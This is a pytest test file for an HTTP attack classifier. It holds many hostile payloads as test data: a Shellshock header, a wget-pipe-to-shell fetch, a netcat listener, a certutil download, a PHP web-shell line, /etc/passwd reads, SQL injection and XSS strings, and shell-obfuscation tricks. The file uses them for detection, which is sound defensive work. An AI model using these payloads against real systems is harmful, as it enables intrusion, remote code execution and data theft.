"""Each part of a request in which payloads travel; and ordinary heads and bodies, of which none is one."""

import json
from urllib.parse import quote

import pytest

from sensor.core.keyed import KeyedHash
from sensor.describe.attacks.classes import AttackClass, Part, Request, Value
from sensor.describe.attacks.classifier import AttackClassifier, list_fields, list_values, strip_quoting
from sensor.describe.attacks.conduct import find_misconduct
from sensor.describe.attacks.core_rules import load_core_rules
from tests.sensor.describe.attacks.payloads import PAYLOADS

HASH = KeyedHash(1, bytes(16)).compute
OWN = AttackClassifier(HASH)
ALL = AttackClassifier(HASH, load_core_rules())  # The same where the package of the core rules is not installed.
FORM = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=b"
JSON = "application/json"


def make_form(*parts: str) -> str:
    return "".join(f"--b\r\n{part}\r\n" for part in parts) + "--b--\r\n"


def headers(**named: str) -> Request:
    return Request(method="GET", headers=tuple((name.replace("_", "-"), value) for name, value in named.items()))


@pytest.mark.parametrize(
    ("request_", "kind"),
    [
        (Request("/static/..%2f..%2f..%2fetc/passwd"), AttackClass.TRAVERSAL),
        (Request("/backup/site.sql"), AttackClass.PROBING),
        (Request("/.git/config"), AttackClass.PROBING),
        (Request("/a%0d%0ab"), AttackClass.SPLITTING),
        (Request(query="x%0d%0ay=1"), AttackClass.SPLITTING),
        (headers(user_agent="() { :; }; /bin/bash -c id"), AttackClass.RCE),
        (headers(user_agent="sqlmap/1.8#stable (https://sqlmap.org)"), AttackClass.PROBING),
        (headers(referer="https://shop.example/?q=<script>alert(1)</script>"), AttackClass.XSS),
        (headers(cookie="a=1; theme=x' UNION SELECT password FROM users--; b=2"), AttackClass.SQLI),
        (headers(cookie="a=1; ../../../etc/passwd=x"), AttackClass.TRAVERSAL),
        (headers(x_api_version="${jndi:ldap://h/a}"), AttackClass.LOG4SHELL),
        (headers(x_file_name="avatar.php"), AttackClass.RCE),
        (Request(body="a=1&b=1'+or+'1'%3D'1", content_type=FORM), AttackClass.SQLI),
        (Request(body='{"a": [{"b": "1\' or \'1\'=\'1"}]}', content_type=JSON), AttackClass.SQLI),
        (Request(body='{"user": {"$gt": ""}}', content_type=JSON), AttackClass.NOSQL),
        (Request(body='{"__proto__": {"admin": true}}', content_type=JSON), AttackClass.RCE),
        (Request(body="<a>&lt;script&gt;alert(1)&lt;/script&gt;</a>", content_type="text/xml"), AttackClass.XSS),
        (Request(body="<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]><a/>", content_type="text/xml"), AttackClass.XXE),
        (
            Request(body=make_form('Content-Disposition: form-data; name="f"; filename="a.phtml"\r\n\r\nx'),
                    content_type=MULTIPART),
            AttackClass.RCE,
        ),
        (
            Request(body=make_form('Content-Disposition: form-data; name="f"\r\n\r\n{{7*7}}'), content_type=MULTIPART),
            AttackClass.SSTI,
        ),
        (
            Request(body=make_form('Content-Disposition: form-data; name="f"\r\nContent-Type: text/plain; '
                                   "charset=utf-7\r\n\r\nx"), content_type=MULTIPART),
            AttackClass.PROTOCOL,
        ),
        # In base64: `while(true);`, and `{"a":"../../../etc/passwd"}`.
        (Request(query="code=d2hpbGUodHJ1ZSk7Cg%3D%3D"), AttackClass.RCE),
        (headers(cookie="state=eyJhIjoiLi4vLi4vLi4vZXRjL3Bhc3N3ZCJ9"), AttackClass.TRAVERSAL),
    ],
)  # fmt: skip
def test_each_part_is_read(request_: Request, kind: AttackClass) -> None:
    found = OWN.classify(request_)
    assert (found.attack_class if found is not None else None) is kind


@pytest.mark.parametrize("part", ["path", "query", "header", "cookie", "body"])
@pytest.mark.parametrize("kind", PAYLOADS)
def test_every_class_is_found_in_every_part(kind: str, part: str) -> None:
    payload = PAYLOADS[kind]
    request = {
        "path": Request(f"/files/{quote(payload, safe='')}"),
        "query": Request(query=f"q={quote(payload)}"),
        "header": headers(x_trace=payload),
        "cookie": headers(cookie=f"lang=de; theme={quote(payload)}"),
        "body": Request(body=json.dumps({"name": payload, "count": 1}), content_type=JSON),
    }[part]
    assert OWN.classify(request) is not None
    assert ALL.classify(request) is not None


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("c'a't /e\\tc/pas^swd", AttackClass.RCE),
        ("sudo -u root whoami", AttackClass.RCE),
        ("x; wget http://h/a -O- | sh", AttackClass.RCE),
        ("/???/b??h", AttackClass.RCE),
        ("curl$IFS-s$IFS//h", AttackClass.RCE),
        ("{,ifconfig,eth0}", AttackClass.RCE),
        ("if exist c:\\pagefile.sys cmd", AttackClass.RCE),
        ("<?php system($_GET['c']);", AttackClass.RCE),
        ("while(!false);", AttackClass.RCE),
        ("while(Infinity);", AttackClass.RCE),
        ("a=nc&&$a -nlvp 555", AttackClass.RCE),
        (";`cat<<<ifconfig`", AttackClass.RCE),
        ("image.jpg&bcdboot /r file.txt", AttackClass.RCE),
        ("x|certutil -urlcache -f http://h/a", AttackClass.RCE),
        ("cat /[?]tc/pa[?]swd", AttackClass.RCE),
        ("garb=adduse[r];$garb pizza", AttackClass.RCE),
        ('""p""y""t""h""o""n', AttackClass.RCE),
        ("c{a,oun}t", AttackClass.RCE),
        ("$1:__proto__:then", AttackClass.RCE),
        ("11!=1", AttackClass.SQLI),
        ("1 is not 2", AttackClass.SQLI),
        ("user__profile__icontains", AttackClass.SQLI),
        ("lo_get(16400)", AttackClass.SQLI),
        ("x' or ?--", AttackClass.SQLI),
        ("exec master..xp_dirtree", AttackClass.SQLI),
        ("\u00bcscript\u00bealert(1)\u00bc/script\u00be", AttackClass.XSS),
        ("http://ip6-loopback/", AttackClass.SSRF),
        ("<% if True %>49<% endif %>", AttackClass.SSTI),
        ("x' <=> email -- ", AttackClass.SQLI),
        ("password::text", AttackClass.SQLI),
        ("1/**/or/**/1=1", AttackClass.SQLI),
        ("\u2019 or \u20191\u2019=\u20191", AttackClass.SQLI),
        ("+ADw-script+AD4-", AttackClass.XSS),
        ("java&tab;script:alert(1)", AttackClass.XSS),
        ("http://kubernetes.default.svc.cluster.local/api", AttackClass.SSRF),
        ("http://2852039166/latest", AttackClass.SSRF),
        ("\r\nRCPT TO:<a@b.example>", AttackClass.SPLITTING),
    ],
)
def test_what_hides_a_payload_does_not(value: str, kind: AttackClass) -> None:
    found = OWN.classify(Request(body=json.dumps({"value": value}), content_type=JSON))
    assert (found.attack_class if found is not None else None) is kind


CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"
)


@pytest.mark.parametrize(
    "request_",
    [
        headers(
            user_agent=CHROME,
            accept="text/html,application/xhtml+xml,*/*;q=0.8",
            accept_language="de-DE,de;q=0.9,en;q=0.8",
            sec_ch_ua='"Chromium";v="130", "Google Chrome";v="130", "Not?A_Brand";v="99"',
            referer="https://www.shop.example/search?q=rock%20%26%20roll&page=2",
            cookie="_ga=GA1.2.1.1; _gid=GA1.2.3.4; consent=%7B%22ads%22%3Afalse%7D; lang=de-DE; cart=[1,2]",
            if_none_match='W/"0815-4711"',
        ),
        headers(user_agent="Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15", dnt="1"),
        headers(user_agent="okhttp/4.12.0", x_request_id="3f2c9a10-1f7a-4a37-9d3f-0123456789ab"),
        headers(user_agent="python-requests/2.32.3", content_type="application/json; charset=utf-8"),
        headers(user_agent="kube-probe/1.31", connection="keep-alive, Upgrade", forwarded='for="[2001:db8::1]:4711"'),
        headers(x_amz_date="20261126T070000Z", x_forwarded_for="203.0.113.7, 198.51.100.2", x_forwarded_proto="https"),
        headers(x_datadog_tags="_dd.p.dm=-1,_dd.p.tid=6745", user_agent="Go-http-client/2.0"),
        headers(range="bytes=0-1023, 4096-8191", content_type=""),
        headers(x_signature="keyId=\"a\",algorithm=\"hs2019\",headers=\"(request-target) host\",signature=\"Zm9v\""),
        headers(user_agent="Apache-HttpClient/4.5.14 (Java/17.0.9)", x_client_version="1.2.3-beta+build.5"),
        headers(referer="http://localhost:3000/app", x_forwarded_for="127.0.0.1", x_forwarded_host="localhost"),
        headers(referer="https://www.shop.example/?from=time+table&note=env"),
        Request("/get/manual.pdf", headers=(("range", "bytes=" + ", ".join(f"{n}0-{n}1" for n in range(6))),)),
        Request(body=json.dumps({
            "a": "Die \"Union von Europa\"! Next", "b": "it is my belief (from experience), that",
            "c": "C:\\fakepath\\cv.pdf",
            "d": "1/2 cup, \u00bc cup and \u00be cup; a --> b",
            "e": "log_in user__name 5 != 4 apples", "f": "{a,b}/{c}",
            "g": "[ACME]: this is, (another) test (foo)bar or foo(bar).", "h": "while (they wait) do; 5 > 3",
        }), content_type=JSON),
        Request("/v1/users/4711/orders", "expand[]=items&expand[]=customer&sort=-created,+name"),
        Request("/repos/a/b/contents/src/main.py", "ref=feature/x"),
        Request("/files/report-2026.11.pdf"),
        Request("/v1/projects/my-proj:setIamPolicy"),
        Request("/.well-known/openid-configuration"),
        Request("/api/Customers(42)/Orders", "$filter=Price gt 20 and Name eq 'Milk'&$top=10&$select=Name,Price"),
        Request(query="redirect_uri=http%3A%2F%2Flocalhost.example%2Fcb&state=xyz&code_challenge=E9Melhoa2Owv-x"),
        Request(query="q=time+to+find+a+cat+with+less+sleep&type=text/plain"),
        Request(query="token=MTIzNDU2Nzg5MGFiY2RlZg%3D%3D&sid=4711"),
        Request(body=json.dumps({
            "query": "query Order($id: ID!) { order(id: $id) { id items { name } } }",
            "variables": {"id": "42"},
        }), content_type=JSON),
        Request(body=json.dumps({
            "text": "Dear Ann,\nwe'll meet at 5; bring the file.\n\nBest,\nO'Neil -- sales & support\nsource: \"x\"",
            "tags": ["vim", "git", "top"],
            "price": "$12.50 (incl. 19% VAT) + shipping",
        }), content_type=JSON),
        Request(body=json.dumps({"cron": "*/5 * * * *", "glob": "/src/*/main.go", "mask": "#,##0.00"}),
                content_type=JSON),
        Request(body="name=O%27Brien&city=Coeur+d%27Alene&note=50%25+off%21+%3C3", content_type=FORM),
        Request(body="# Notes\n\n- first; then\n- a `word`\n\n> I said \"no\".\n", content_type="text/plain"),
        Request(body='<?xml version="1.0"?><order xmlns:x="urn:x"><id>5</id><note>a &amp; b</note></order>',
                content_type="application/xml"),
        Request(body=make_form(
            'Content-Disposition: form-data; name="title"\r\n\r\nMy "best" photo; really',
            'Content-Disposition: form-data; name="file"; filename="photo (1).jpg"\r\nContent-Type: image/jpeg\r\n\r\n',
        ), content_type=MULTIPART),
    ],
)  # fmt: skip
def test_ordinary_requests_hold_none(request_: Request) -> None:
    assert ALL.classify(request_) is None


@pytest.mark.parametrize(
    ("request_", "kind"),
    [
        (Request(method="HACK"), AttackClass.PROTOCOL),
        (headers(proxy="http://h/"), AttackClass.PROTOCOL),
        (headers(x_original_url="/admin"), AttackClass.PROTOCOL),
        (headers(range="bytes=" + ",".join(f"{n}-" for n in range(20))), AttackClass.PROTOCOL),
        (headers(connection="keep-alive, close"), AttackClass.PROTOCOL),
        (headers(content_type="text/plain; charset=utf-7"), AttackClass.PROTOCOL),
        (headers(content_type="application/json; charset=utf-8; charset=utf-7"), AttackClass.PROTOCOL),
        (headers(content_encoding="gzip"), AttackClass.PROTOCOL),  # Of a GET.
        (
            Request(query="PHPSESSID=1", headers=(("host", "a.example"), ("referer", "https://b.example/"))),
            AttackClass.FIXATION,
        ),
        (Request(query="PHPSESSID=1", headers=(("host", "a.example"), ("referer", "https://a.example/x"))), None),
        (Request(query="PHPSESSID=1", headers=(("host", "a.example"),)), None),
        (
            Request(query="sid=1", headers=(("host", "api.a.example:8443"), ("referer", "https://app.a.example/"))),
            None,
        ),
        (Request(method="PATCH", headers=(("content-encoding", "gzip"),)), None),
    ],
)
def test_a_request_as_a_whole(request_: Request, kind: AttackClass | None) -> None:
    found = find_misconduct(request_)
    assert (found.attack_class if found is not None else None) is kind


def test_a_form_gives_names_files_and_values() -> None:
    body = make_form(
        'Content-Disposition: form-data; name="a\\"b"; filename="x.png"\r\n\r\n\x89PNG',
        "Content-Disposition: form-data; name=c; filename*=UTF-8''%2e%2e%2fd\r\n\r\none\r\ntwo",
    )
    assert list(list_fields(body)) == [
        Value(Part.FILE, "x.png"),
        Value(Part.TEXT, 'a\\"b'),
        Value(Part.TEXT, "\x89PNG"),
        Value(Part.FILE, "%2e%2e%2fd"),
        Value(Part.TEXT, "c"),
        Value(Part.TEXT, "one\r\ntwo"),
    ]
    assert list(list_fields("no boundary")) == list(list_fields("")) == []
    assert len(list(list_fields(body.replace("\r\n", "\n")))) == 6  # As servers may not, but some do.


def test_contents_of_an_uploaded_file_may_have_zeros() -> None:
    """Packages and pictures do. A zero in a field, and a script behind the picture, are attacks all the same."""
    head = 'Content-Disposition: form-data; name="content"; filename="parser-1.0.whl"\r\n\r\n'
    package = "PK\x03\x04\x14\0\0\0\0\0\ufffd\x06~]\ufffd\x0c\0\0\0\x0f\0\0\0parser.pyANSWER = 42\nPK\x01\x02\0"
    assert ALL.classify(Request(body=make_form(head + package), content_type=MULTIPART)) is None
    field = 'Content-Disposition: form-data; name="file"\r\n\r\nreport.php\0.png'
    for payload in (field, head + package + "<?php system($_GET['c']); ?>"):
        assert ALL.classify(Request(body=make_form(payload), content_type=MULTIPART)) is not None


def test_a_plus_is_a_blank_in_forms_only() -> None:
    values = list_values(Request("/a+b", "c+d=e+f", headers=(("x-a", "g+h"),), body="i+j=k", content_type=FORM))
    assert [value.text for value in values] == ["/a+b", "c d", "e f", "g+h", "i j", "k"]


def test_quoting_of_a_shell() -> None:
    assert strip_quoting("c'a't /e\\tc//passwd") == "cat /etc/passwd"
    assert strip_quoting("cat$u /etc$u/passwd") == "cat /etc/passwd"
    assert strip_quoting("cu$@rl  h") == "curl h"
    assert strip_quoting("plain text") is None
